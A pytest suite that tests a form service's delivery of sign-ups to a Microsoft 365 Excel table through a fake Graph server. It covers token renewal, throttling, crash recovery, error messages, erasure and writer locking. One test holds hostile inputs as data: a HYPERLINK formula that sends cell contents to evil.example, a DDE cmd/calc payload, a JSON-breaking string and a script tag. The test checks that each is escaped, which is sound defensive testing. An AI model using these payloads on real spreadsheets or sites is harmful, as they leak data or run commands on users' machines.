"""SHEET_BACKEND=m365 through the relay, against a fake Entra ID + Graph over
real HTTPS on loopback (tests/formsvc/graph_fake.py)."""

import logging
import threading
import time
from contextlib import nullcontext
from datetime import datetime

import pytest

from formsvc import relay
from formsvc.sinks import HEADERS, SheetError, sheet_row
from formsvc.sinks.m365 import ExcelTableSink
from tests.formsvc.formsvc_helpers import deliver_all, query, run_relay_process, stored_references, stored_signup, submit
from tests.formsvc.graph_fake import Formula, GraphFake



@pytest.fixture
def m365_app(make_app, graph):
    return make_app(**graph.environment())


def sheet_references(graph):
    return [row["Referens"] for row in graph.table()]


def test_a_sign_up_becomes_one_row_in_the_excel_table(m365_app, graph):
    client = m365_app.test_client()
    assert submit(client, phone="+47 123 45 678").status_code == 303
    assert submit(client).status_code == 303
    assert deliver_all(m365_app) == {"done": 2}
    assert deliver_all(m365_app) == {}
    assert sorted(sheet_references(graph)) == sorted(stored_references(m365_app))
    first = next(row for row in graph.table() if row["Telefon"] == "+47 123 45 678")
    assert first["Företag"] == "Verkstad i Krokom AB" and first["Kommun"] == "Krokom"
    assert first["Status"] == "" and first["Handläggare"] == ""  # staff's columns left empty
    assert isinstance(first["Inkommen"], datetime)  # a real date-time, not text
    # One token for both passes: msal's cache lives as long as the process.
    assert graph.token_requests == 1


def test_a_token_near_its_end_or_revoked_is_replaced(m365_app, graph):
    def graph_calls():
        return len([path for _method, path in graph.requests if path.startswith("/v1.0/")])

    client = m365_app.test_client()
    graph.expires_in = 200  # msal renews a token with less than five minutes left
    submit(client)
    assert deliver_all(m365_app) == {"done": 1}
    assert graph.token_requests == graph_calls() >= 3  # a fresh token for every call
    graph.expires_in = 3599
    submit(client)
    asked = graph.token_requests
    assert deliver_all(m365_app) == {"done": 1}
    assert graph.token_requests == asked + 1  # then kept for the calls after it
    graph.tokens.clear()  # revoked: Graph answers 401 to the cached token
    submit(client)
    assert deliver_all(m365_app) == {"done": 1}
    assert graph.token_requests == asked + 2
    assert sorted(sheet_references(graph)) == sorted(stored_references(m365_app))


def test_the_empty_row_excel_gives_a_new_table_is_left_alone(make_app, tmp_path):
    fake = GraphFake(tmp_path, headers=list(HEADERS), empty_rows=1).start()
    try:
        app = make_app(**fake.environment())
        submit(app.test_client())
        assert deliver_all(app) == {"done": 1}
        assert deliver_all(app) == {}
        assert [row["Referens"] for row in fake.table()] == ["", stored_references(app)[0]]
    finally:
        fake.stop()


def test_formula_like_and_hostile_text_arrives_as_the_safe_text(make_app, graph):
    hostile = {
        "company": '=HYPERLINK("http://evil.example/?"&A1;"klicka")',
        "contact_name": "@SUM(1+1)*cmd|' /C calc'!A0",
        "role": '"}]], "values": [["x',
        "message": "-2+3\r\n=1+1\t<script>alert(1)</script> ÅÄÖ ✓",
    }
    app = make_app(**graph.environment())
    submit(app.test_client(), phone="070-123 45 67", **hostile)
    assert deliver_all(app) == {"done": 1}
    (row,) = graph.table()
    assert not [cell for cell in row.values() if isinstance(cell, Formula)]
    assert row["Företag"] == "'" + hostile["company"]
    assert row["Kontaktperson"] == "'" + hostile["contact_name"]
    assert row["Roll"] == hostile["role"]
    assert row["Meddelande"].startswith("'-2+3") and "<script>" in row["Meddelande"]
    assert row["Telefon"] == "070-123 45 67"  # validated: written plainly, and still text
    assert row["Organisationsnummer"] == "556036-0793"


def test_throttled_append_waits_for_retry_after_without_using_an_attempt(make_app, graph):
    # A relay interval shorter than Retry-After: the wait must come from the header.
    m365_app = make_app(**graph.environment(FORMSVC_RELAY_INTERVAL="0.5"))
    submit(m365_app.test_client())
    graph.fail_next("POST", "/rows/add", 429, "TooManyRequests", retry_after=2)
    before = time.time()
    assert relay.run_pass(dict(m365_app.config)) == {"busy": 1}
    ((attempts, next_attempt),) = query(m365_app, "SELECT attempts, next_attempt_at FROM outbox")
    assert attempts == 0 and next_attempt >= before + 2
    assert relay.run_pass(dict(m365_app.config)) == {}  # not due before Retry-After
    time.sleep(next_attempt - time.time() + 0.05)
    assert relay.run_pass(dict(m365_app.config)) == {"done": 1}
    assert sheet_references(graph) == stored_references(m365_app)


def test_unavailable_without_retry_after_waits_a_default_pause(m365_app, graph):
    submit(m365_app.test_client())
    graph.fail_next("GET", "/headerRowRange", 503, "serviceUnavailable")
    assert deliver_all(m365_app) == {"busy": 1}
    ((attempts, next_attempt),) = query(m365_app, "SELECT attempts, next_attempt_at FROM outbox")
    assert attempts == 0 and next_attempt > time.time() + 20
    assert deliver_all(m365_app) == {"done": 1}


def test_a_crash_between_append_and_answer_leaves_exactly_one_row(m365_app, graph):
    submit(m365_app.test_client())
    graph.crash_after_next_append()
    assert deliver_all(m365_app) == {"retry": 1}  # no answer: maybe written, so tried again
    assert len(graph.table()) == 1
    assert deliver_all(m365_app) == {"done": 1}  # Referens is there already: not appended again
    assert sheet_references(graph) == stored_references(m365_app)
    assert len([path for _method, path in graph.requests if path.endswith("/rows/add")]) == 1


def test_a_relay_killed_after_the_append_does_not_duplicate_the_row(m365_app, graph):
    client = m365_app.test_client()
    for _ in range(3):
        submit(client)
    crashed = run_relay_process(fault=relay.FAULT_CRASH_AFTER_SHEET_WRITE)
    assert crashed.returncode == 70, crashed.stderr
    assert query(m365_app, "SELECT state FROM outbox") == [("pending",)] * 3
    again = run_relay_process()
    assert again.returncode == 0 and "done: 3" in again.stdout, again.stderr
    assert sorted(sheet_references(graph)) == sorted(stored_references(m365_app))


def test_missing_table_is_retried_then_dead_lettered_with_the_fix_logged(make_app, graph, caplog):
    app = make_app(**graph.environment(FORMSVC_M365_TABLE="Anmälningar2026", FORMSVC_MAX_ATTEMPTS="2"))
    submit(app.test_client())
    with caplog.at_level(logging.WARNING, logger="formsvc.relay"):
        assert deliver_all(app) == {"retry": 1}
        assert deliver_all(app) == {"dead": 1}
    assert "no table 'Anmälningar2026'" in caplog.text and "FORMSVC_M365_TABLE" in caplog.text
    ((error,),) = query(app, "SELECT last_error FROM outbox")
    assert "ItemNotFound" in error and "Insert > Table" in error
    assert graph.rows == []
    # The table's name is URL-escaped, not sent raw.
    assert any("Anmälningar2026" in path for _method, path in graph.requests)


def test_permission_denied_names_the_graph_permission(m365_app, graph, caplog):
    submit(m365_app.test_client())
    graph.fail_next("GET", "/headerRowRange", 403, "accessDenied")
    with caplog.at_level(logging.WARNING, logger="formsvc.relay"):
        assert deliver_all(m365_app) == {"retry": 1}
    assert "403 accessDenied" in caplog.text and "Sites.Selected" in caplog.text
    assert deliver_all(m365_app) == {"done": 1}


def test_table_that_cannot_grow_says_what_is_in_the_way(m365_app, graph, caplog):
    submit(m365_app.test_client())
    graph.fail_next("POST", "/rows/add", 409, "InsertDeleteConflict")
    with caplog.at_level(logging.WARNING, logger="formsvc.relay"):
        assert deliver_all(m365_app) == {"retry": 1}
    assert "the table cannot grow" in caplog.text
    assert graph.rows == []


def test_wrong_secret_is_an_auth_failure_with_the_variable_to_fix(make_app, graph, caplog):
    app = make_app(**graph.environment(FORMSVC_M365_CLIENT_SECRET="fel"))
    submit(app.test_client())
    with caplog.at_level(logging.WARNING, logger="formsvc.relay"):
        assert deliver_all(app) == {"retry": 1}
    assert "invalid_client" in caplog.text and "FORMSVC_M365_CLIENT_SECRET" in caplog.text
    assert graph.rows == [] and not any(path.startswith("/v1.0") for _method, path in graph.requests)


def test_a_table_without_a_needed_column_is_refused_by_name(m365_app, graph):
    graph.headers = [header for header in graph.headers if header != "E-post"]
    submit(m365_app.test_client())
    assert deliver_all(m365_app) == {"retry": 1}
    ((error,),) = query(m365_app, "SELECT last_error FROM outbox")
    assert "lacks the column(s) E-post" in error
    assert graph.rows == []


def test_erase_by_email_removes_the_rows_from_the_table(m365_app, graph):
    client = m365_app.test_client()
    submit(client, email="anna@example.se")
    submit(client, email="bo@example.se")
    submit(client, email="ANNA@example.se")
    assert deliver_all(m365_app) == {"done": 3}
    result = m365_app.test_cli_runner().invoke(args=["erase", "--email", "anna@example.se"])
    assert result.exit_code == 0, result.output
    assert "workbook: removed 2 row(s)" in result.output
    assert [row["E-post"] for row in graph.table()] == ["bo@example.se"]
    assert len(stored_references(m365_app)) == 1


def test_erase_checks_each_row_so_staff_sorting_meanwhile_costs_no_other_row(m365_app, graph):
    client = m365_app.test_client()
    for email in ("anna@example.se", "bo@example.se", "cecilia@example.se", "anna@example.se"):
        submit(client, email=email)
    assert deliver_all(m365_app) == {"done": 4}
    sink = ExcelTableSink.from_config(dict(m365_app.config))
    doomed = sink.references_matching("E-post", "anna@example.se")
    # Right after the erase has read where the rows are, a staff member sorts the table.
    graph.after_next("GET", "/columns/Referens/dataBodyRange", lambda: graph.rows.insert(0, graph.rows.pop()))
    assert sorted(sink.remove(doomed)) == sorted(doomed)
    assert sorted(row["E-post"] for row in graph.table()) == ["bo@example.se", "cecilia@example.se"]


@pytest.mark.both_databases
def test_relays_side_by_side_never_write_at_the_same_time(m365_app, graph, monkeypatch):
    monkeypatch.setattr(relay, "BATCH_SIZE", 3)  # several batches, so every relay gets work
    client = m365_app.test_client()
    for _ in range(12):
        assert submit(client).status_code == 303
    config = dict(m365_app.config)
    failures = []

    def run():
        try:
            while relay.run_pass(config):
                pass
        except Exception as error:  # surfaced below, not lost in the thread
            failures.append(error)

    relays = [threading.Thread(target=run) for _ in range(3)]
    for thread in relays:
        thread.start()
    for thread in relays:
        thread.join(timeout=120)
    assert failures == []
    assert graph.overlapping_writes == 0
    assert sorted(sheet_references(graph)) == sorted(stored_references(m365_app))
    assert query(m365_app, "SELECT DISTINCT state FROM outbox") == [("done",)]


def test_the_fake_notices_overlapping_writes_when_nothing_serialises_them(m365_app, graph):
    """The check above could fail: without the writer lock, writers do meet."""
    config = dict(m365_app.config)
    sinks = [ExcelTableSink.from_config(config) for _ in range(3)]
    for sink in sinks:
        sink.writer_lock = nullcontext
    rows = [sheet_row(stored_signup(f"SIM-2222-{suffix}")) for suffix in ("AAAA", "BBBB", "CCCC")]
    writers = [threading.Thread(target=sink.deliver, args=(row,)) for sink, row in zip(sinks, rows)]
    for thread in writers:
        thread.start()
    for thread in writers:
        thread.join(timeout=30)
    assert graph.overlapping_writes > 0


def test_sink_error_messages_are_sheet_errors_for_the_cli(m365_app, graph):
    """erase and references_matching see SheetError, which cli.py turns into Swedish advice."""
    graph.fail_next("GET", "/headerRowRange", 403, "accessDenied")
    sink = ExcelTableSink.from_config(dict(m365_app.config))
    with pytest.raises(SheetError, match="Sites.Selected"):
        sink.references_matching("E-post", "anna@example.se")

